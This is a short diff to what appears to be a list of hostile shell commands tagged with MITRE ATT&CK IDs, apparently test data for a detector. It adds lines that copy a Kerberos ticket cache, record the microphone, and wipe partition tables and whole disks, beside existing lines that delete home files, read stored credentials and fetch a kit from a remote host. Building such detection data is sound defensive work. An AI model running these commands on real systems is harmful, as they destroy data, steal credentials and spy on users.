@@ -460,7 +460,8 @@ HIDDEN_STAGED_OR_DESTROYED = [
     ("find /home -type f -delete", "T1485"),
     ("echo b > /proc/sysrq-trigger", "T1529"),
 ]
-# Fetched by clients other than curl and wget into staging, set as git's own programs, carried in DNS names, ...
+# Fetched by clients other than curl and wget into staging, set as git's own programs, carried in DNS names,
+# tickets taken, a microphone recorded, partition tables erased
 FETCHED_HOOKED_OR_CARRIED = [
     ("scp op@203.0.113.9:/srv/kit.tgz /tmp/", "T1105"),
     ("rsync -a rsync://203.0.113.9/t/ /dev/shm/.k/", "T1105"),
@@ -478,6 +479,10 @@ FETCHED_HOOKED_OR_CARRIED = [
     ("sqlite3 /home/u/.mozilla/firefox/p.default/logins.json .dump", "T1552.001"),
     ("cat /var/lib/jenkins/secrets/master.key", "T1552.001"),
     ("echo alias sudo=/tmp/.x >> /home/u/.bash_aliases", "T1546.004"),
+    ("cp /tmp/krb5cc_1000 /dev/shm/c", "T1558.005"),  # a Kerberos ticket cache
+    ("arecord -d 60 -f cd /tmp/a.wav", "T1123"),
+    ("sgdisk --zap-all /dev/nvme0n1", "T1561.002"),
+    ("blkdiscard -f /dev/sdb", "T1561.001"),
 ]
 
 
